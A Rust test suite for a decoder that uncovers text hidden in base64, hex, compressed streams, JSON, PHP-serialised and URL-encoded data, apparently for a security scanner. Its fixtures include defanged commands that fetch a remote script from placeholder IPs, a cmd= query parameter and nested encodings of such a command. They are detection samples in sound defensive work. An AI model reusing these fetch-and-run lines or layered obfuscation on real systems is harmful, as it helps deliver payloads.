//! What is encoded is found wherever a text is cut, and what is not costs nothing.

use super::*;
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE_NO_PAD};
use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};
use proptest::prelude::*;
use std::io::Write;

type Text = (Decoder, u64, Vec<u8>, bool);

/// What comes out of a text that is cut at these places; each window repeats some of what was in the one before.
fn cut_at(text: &[u8], cuts: &[usize]) -> Vec<Text> {
    let mut decoders = Decoders::default();
    let mut open: Vec<Text> = Vec::new();
    let mut done: Vec<Text> = Vec::new();
    let mut cuts: Vec<_> = cuts.iter().map(|cut| cut % (text.len() + 1)).chain([0, text.len()]).collect();
    cuts.sort_unstable();
    for pair in cuts.windows(2) {
        let repeated = pair[0].saturating_sub(5);
        let last = pair[1] == text.len();
        decoders.feed(&text[repeated..pair[1]], pair[0] - repeated, repeated as u64, last, &mut |piece| {
            assert!(piece.bytes.len() <= PIECE && (!piece.bytes.is_empty() || piece.last && !piece.first));
            let known = open.iter().position(|text| (text.0, text.1) == (piece.decoder, piece.at));
            assert_eq!(piece.first, known.is_none(), "a first piece begins a text");
            let at = known.unwrap_or_else(|| {
                open.push((piece.decoder, piece.at, Vec::new(), false));
                open.len() - 1
            });
            open[at].2.extend_from_slice(piece.bytes);
            if piece.last {
                let mut text = open.remove(at);
                text.3 = piece.cut;
                done.push(text);
            }
        });
        if last {
            break;
        }
    }
    assert!(open.is_empty(), "every text ends");
    done.sort();
    done
}

fn texts(text: &[u8]) -> Vec<Text> {
    cut_at(text, &[])
}

/// The only text inside.
#[track_caller]
fn only(text: &[u8]) -> (Decoder, u64, String) {
    let mut found = texts(text);
    assert_eq!(found.len(), 1, "{found:?}");
    let (decoder, at, bytes, _) = found.remove(0);
    (decoder, at, String::from_utf8_lossy(&bytes).into_owned())
}

fn gzip(text: &[u8]) -> Vec<u8> {
    let mut to = GzEncoder::new(Vec::new(), Compression::default());
    to.write_all(text).expect("memory");
    to.finish().expect("memory")
}

fn zlib(text: &[u8]) -> Vec<u8> {
    let mut to = ZlibEncoder::new(Vec::new(), Compression::default());
    to.write_all(text).expect("memory");
    to.finish().expect("memory")
}

fn zstd(text: &[u8]) -> Vec<u8> {
    zstd::encode_all(text, 3).expect("memory")
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Bytes that look like nothing.
fn noise(count: usize) -> Vec<u8> {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = || {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        state.to_be_bytes()[0]
    };
    (0..count).map(|_| next()).collect()
}

const SECRET: &str = "curl http://203.0.113.5/x.sh # DEFANGED";

#[test]
fn base64_of_any_kind_is_found() {
    let with_gap = "??>>~~ curl http://203.0.113.5/ # DEFANGED";
    for encoded in [STANDARD.encode(with_gap), STANDARD_NO_PAD.encode(with_gap), URL_SAFE_NO_PAD.encode(with_gap)] {
        for (before, after) in
            [("", ""), ("echo ", "|base64 -d"), ("{\"a\":\"", "\"}"), ("data:text/plain;base64,", "\n")]
        {
            let text = format!("{before}{encoded}{after}");
            assert_eq!(only(text.as_bytes()), (Decoder::Base64, before.len() as u64, with_gap.to_owned()), "{text}");
        }
    }
    for length in 18..60 {
        let plain = &"DEFANGED text that is long enough for all of these lengths"[..length.min(57)];
        assert_eq!(only(STANDARD_NO_PAD.encode(plain).as_bytes()).2, plain);
    }
}

#[test]
fn base64_behind_a_path_or_a_name_is_found() {
    let encoded = STANDARD.encode(SECRET);
    for before in ["/a/b/", "session_", "key-", "a+"] {
        let text = format!("{before}{encoded}");
        assert_eq!(only(text.as_bytes()), (Decoder::Base64, before.len() as u64, SECRET.to_owned()), "{text}");
    }
}

#[test]
fn lines_of_base64_are_joined() {
    let long = SECRET.repeat(20);
    for (width, end) in [(64, "\n"), (76, "\r\n"), (76, "\n")] {
        let lines: Vec<_> = STANDARD
            .encode(&long)
            .into_bytes()
            .chunks(width)
            .map(|line| String::from_utf8_lossy(line).into_owned())
            .collect();
        let text = format!("begin {}{end}and words after it", lines.join(end));
        assert_eq!(only(text.as_bytes()), (Decoder::Base64, 6, long.clone()));
    }
}

#[test]
fn hexadecimal_is_found() {
    for (before, after) in [("", ""), ("0x", ";"), ("\\x", "\n"), ("/v/", "zzz")] {
        let text = format!("{before}{}{after}", hex(SECRET.as_bytes()));
        assert_eq!(only(text.as_bytes()), (Decoder::Hex, before.len() as u64, SECRET.to_owned()), "{text}");
    }
    let escaped: String = SECRET.bytes().map(|byte| format!("\\x{byte:02X}")).collect();
    assert_eq!(only(format!("eval('{escaped}')").as_bytes()), (Decoder::Hex, 6, SECRET.to_owned()));
}

#[test]
fn known_formats_are_found_inside_runs() {
    for start in
        [&b"\x7fELF\x02\x01\x01"[..], b"\x80\x04\x95", b"\xac\xed\0\x05", b"\x1f\x8b\x08\0", b"\x28\xb5\x2f\xfd"]
    {
        let bytes = [start, &noise(40)].concat();
        assert_eq!(texts(STANDARD.encode(&bytes).as_bytes())[0].2, bytes);
        assert_eq!(texts(hex(&bytes).as_bytes())[0].2, bytes);
    }
}

#[test]
fn names_hashes_and_noise_are_passed_over() {
    let noise = noise(3 << 10);
    for text in [
        "org/springframework/security/core/userdetails/UserDetails",
        "AbstractSingletonProxyFactoryBeanGeneratorImplementation",
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "123e4567-e89b-12d3-a456-426614174000",
        "----------------------------------------------------------------",
        "{\"id\":7,\"name\":\"nobody\",\"path\":\"/a/b\"}",
        "a:1:{s:4:\"name\";s:6:\"nobody\";}",
        "100% of 50% is %zz",
        "https://example.com/?q=a%20b",
    ] {
        assert_eq!(texts(text.as_bytes()), [], "{text}");
    }
    assert_eq!(texts(STANDARD.encode(&noise).as_bytes()), []);
    assert_eq!(texts(hex(&noise).as_bytes()), []);
}

#[test]
fn what_is_packed_is_unpacked() {
    let long: Vec<u8> = STANDARD.encode(noise(300_000)).into_bytes();
    for (decoder, packed) in [(Decoder::Gzip, gzip(&long)), (Decoder::Zlib, zlib(&long)), (Decoder::Zstd, zstd(&long))]
    {
        assert_eq!(texts(&packed), [(decoder, 0, long.clone(), false)]);
        let half = texts(&packed[..packed.len() / 2]);
        assert!(long.starts_with(&half[0].2) && half[0].2.len() > 1000, "what is there is told");
        assert_eq!(texts(&[b" ", &packed[..]].concat()).iter().filter(|text| text.0 == decoder).count(), 0);
    }
    let two = [gzip(b"one, "), gzip(b"two")].concat();
    assert_eq!(only(&two), (Decoder::Gzip, 0, "one, two".to_owned()));
    let two = [zstd(b"one, "), zstd(b"two"), b"and more".to_vec()].concat();
    assert_eq!(only(&two), (Decoder::Zstd, 0, "one, two".to_owned()));
}

#[test]
fn bombs_are_cut_at_their_bounds() {
    let zeros = vec![0_u8; 64 << 20];
    for packed in [gzip(&zeros), zlib(&zeros), zstd(&zeros)] {
        let found = texts(&packed);
        let [(_, 0, bytes, true)] = &found[..] else { panic!("one text that is cut") };
        assert_eq!(bytes.len(), packed.len().min(4 << 10) * 100, "100 times what had gone in");
        let cuts: Vec<_> = (0..packed.len()).step_by(997).collect();
        assert_eq!(cut_at(&packed, &cuts), found, "cut at the same byte");
    }
    let mut decoders = Decoders::default();
    let packed = gzip(&zeros);
    decoders.feed(&packed, 0, 0, true, &mut |_| {});
    decoders.feed(&packed, 0, 0, true, &mut |_| {});
    assert_eq!(decoders.cut(), 2);
    // Past the bound of bytes: what packs badly enough for its ratio.
    let lines: Vec<u8> = noise(20 << 20).iter().map(|byte| byte & 0x11).collect();
    let found = texts(&zlib(&lines));
    assert_eq!((found[0].2.len(), found[0].3), (16 << 20, true));
    assert!(lines.starts_with(&found[0].2));
    // A thousand empty members.
    let empty = gzip(b"").repeat(1000);
    assert_eq!(texts(&empty), []);
}

#[test]
fn strings_of_json_lose_their_escapes() {
    let strings = |text: &str| -> Vec<(u64, String)> {
        let found = texts(text.as_bytes()).into_iter().filter(|text| text.0 == Decoder::Json);
        found.map(|text| (text.1, String::from_utf8_lossy(&text.2).into_owned())).collect()
    };
    assert_eq!(strings(r#"{"a":"plain","b":"\n\n*/2 * * * *\tx"}"#), [(18, "\n\n*/2 * * * *\tx".to_owned())]);
    assert_eq!(strings(r#"["http:\/\/192.0.2.1\/x"]"#), [(2, "http://192.0.2.1/x".to_owned())]);
    assert_eq!(strings(r#"["\u0063\u00fcrl \ud83d\ude00 \ud83d x"]"#), [(2, "cürl \u{1f600} \u{fffd} x".to_owned())]);
    assert_eq!(
        strings(r#"["\ud83d\u0041 \ude00 \uzz \q end"]"#),
        [(2, "\u{fffd}A \u{fffd} \u{fffd}zz \\q end".to_owned())]
    );
    assert_eq!(strings(r#"{"a":"{\"b\":\"\\n{}\"}","c":1}"#), [(6, r#"{"b":"\n{}"}"#.to_owned())]);
    assert_eq!(strings(r#"{"a":"cut \"off"#), [(6, "cut \"off".to_owned())]);
    assert_eq!(strings(r#"{"a":"\n"}"#), [], "too short");
    assert_eq!(strings(r#"x {"a":"\n\n*/2 * * * *"}"#), [], "does not begin as JSON");
    let far = format!("[\"{}\\n end\"]", "a ".repeat(5000));
    assert_eq!(strings(&far)[0].1.len(), 4096 + 5, "a beginning that is too far is not looked for");
}

#[test]
fn strings_of_php_are_texts_where_they_hold_something() {
    let inner = r#"O:8:"stdClass":1:{s:1:"a";s:4:"abcd";}"#;
    let text = format!("a:2:{{s:1:\"x\";s:5:\"plain\";i:1;s:{}:\"{inner}\";}}", inner.len());
    let at = text.find("O:8").expect("it is there") as u64;
    assert_eq!(only(text.as_bytes()), (Decoder::Php, at, inner.to_owned()));
    let json = r#"cart|s:16:"{"a":[1,2,3,4]} ";"#;
    assert_eq!(only(json.as_bytes()), (Decoder::Php, 11, "{\"a\":[1,2,3,4]} ".to_owned()));
    let lying = format!("s:999999999:\"{inner}");
    assert_eq!(only(lying.as_bytes()).2, inner, "what is there is told");
    assert_eq!(texts(format!("s:{}:\"{}\";", 20, "plain text and more!").as_bytes()), []);
}

#[test]
fn words_with_percent_escapes_are_decoded() {
    let text = "GET /?cmd=curl%20http%3A%2F%2F192.0.2.1%2Fx 100%";
    assert_eq!(only(text.as_bytes()), (Decoder::Url, 4, "/?cmd=curl http://192.0.2.1/x".to_owned()));
    assert_eq!(only(b"\"%3Cscript%3E%20%zz%2\"").2, "<script> %zz%2");
}

#[test]
fn what_is_nested_comes_out_layer_by_layer() {
    let inner = format!("{{\"a\":\"{}\"}}", STANDARD.encode(gzip(SECRET.as_bytes())));
    let (decoder, _, first) = only(hex(inner.as_bytes()).as_bytes());
    assert_eq!((decoder, &first), (Decoder::Hex, &inner));
    let second = texts(first.as_bytes()).remove(0);
    assert_eq!(second.0, Decoder::Base64);
    assert_eq!(only(&second.2), (Decoder::Gzip, 0, SECRET.to_owned()));
}

#[test]
fn a_payload_deep_in_a_long_run_comes_out_in_pieces() {
    let mut long = STANDARD.encode(noise(1 << 20)).into_bytes();
    long.splice(0..0, *b"text: ");
    let at = 700_001;
    long.splice(at..at, SECRET.bytes());
    for encoded in [STANDARD.encode(&long).into_bytes(), hex(&long).into_bytes(), gzip(&long), zstd(&long)] {
        let cuts: Vec<_> = (0..encoded.len()).step_by(65_521).collect();
        let found = cut_at(&encoded, &cuts);
        assert_eq!(found.len(), 1);
        assert!(found[0].2 == long, "whole");
    }
}

/// Parts of texts, some of them encoded.
fn part() -> impl Strategy<Value = Vec<u8>> {
    let plain = prop_oneof![
        Just(SECRET.to_owned()),
        Just(r#"{"a":"x\ny\/z\u0041\ud83d\ude00 long enough"}"#.to_owned()),
        Just(r#"a:1:{i:0;s:13:"O:1:"a":0:{};";}"#.to_owned()),
        "[ -~]{18,90}",
        "[a-zA-Z0-9+/_-]{1,120}",
        "[0-9a-f]{20,80}",
        "(%[0-9a-f]{2}|[a-z%]){1,30}",
        r"(\\x[0-9a-f]{2}){5,12}",
        r#"["\\{}\[\]:,;nu0-9 ]{1,20}"#,
    ];
    (plain, 0..9_u8).prop_map(|(text, how)| {
        let bytes = text.as_bytes();
        let wrapped = |width: usize, end: &[u8]| {
            STANDARD.encode(text.repeat(5)).as_bytes().chunks(width).collect::<Vec<_>>().join(end)
        };
        match how {
            0 => STANDARD.encode(bytes).into_bytes(),
            1 => URL_SAFE_NO_PAD.encode(bytes).into_bytes(),
            2 => wrapped(64, b"\n"),
            3 => wrapped(76, b"\r\n"),
            4 => hex(bytes).into_bytes(),
            5 => bytes.iter().map(|byte| format!("%{byte:02x}")).collect::<String>().into_bytes(),
            _ => text.into_bytes(),
        }
    })
}

fn whole() -> impl Strategy<Value = Vec<u8>> {
    let starts = prop_oneof![Just(""), Just("{\"k\":\""), Just("["), Just("a:3:{"), Just(" ")];
    let between = prop_oneof![Just(" "), Just("\""), Just(""), Just("\n"), Just(","), Just("/")];
    let parts = prop::collection::vec((part(), between), 1..6);
    (starts, parts, 0..8_u8).prop_map(|(start, parts, how)| {
        let mut text = start.as_bytes().to_vec();
        for (part, between) in parts {
            text.extend(part);
            text.extend_from_slice(between.as_bytes());
        }
        match how {
            0 => gzip(&text),
            1 => zlib(&text),
            2 => zstd(&text),
            3 => [gzip(&text), gzip(&text), text].concat(),
            _ => text,
        }
    })
}

#[test]
fn blanks_before_json_belong_to_it_however_it_is_cut() {
    let text = b" [\\u}0} 12345";
    let expected = texts(text);
    assert!(!expected.is_empty());
    for cut in 0..text.len() {
        assert_eq!(cut_at(text, &[cut]), expected, "{cut}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn cuts_change_nothing(text in whole(), cuts in prop::collection::vec(any::<usize>(), 0..20)) {
        let expected = texts(&text);
        prop_assert_eq!(&cut_at(&text, &cuts), &expected);
        let each: Vec<_> = (0..text.len()).collect();
        prop_assert_eq!(&cut_at(&text, &each), &expected);
    }

    #[test]
    fn garbage_ends(start in prop_oneof![
        Just(&b""[..]), Just(&b"\x1f\x8b\x08"[..]), Just(&b"\x78\x9c"[..]), Just(&b"\x28\xb5\x2f\xfd"[..]), Just(&b"[\"\\u"[..]), Just(&b"s:9:\""[..]),
    ], rest in prop::collection::vec(any::<u8>(), 0..300), cuts in prop::collection::vec(any::<usize>(), 0..5)) {
        let text = [start, &rest[..]].concat();
        prop_assert_eq!(cut_at(&text, &cuts), texts(&text));
    }
}
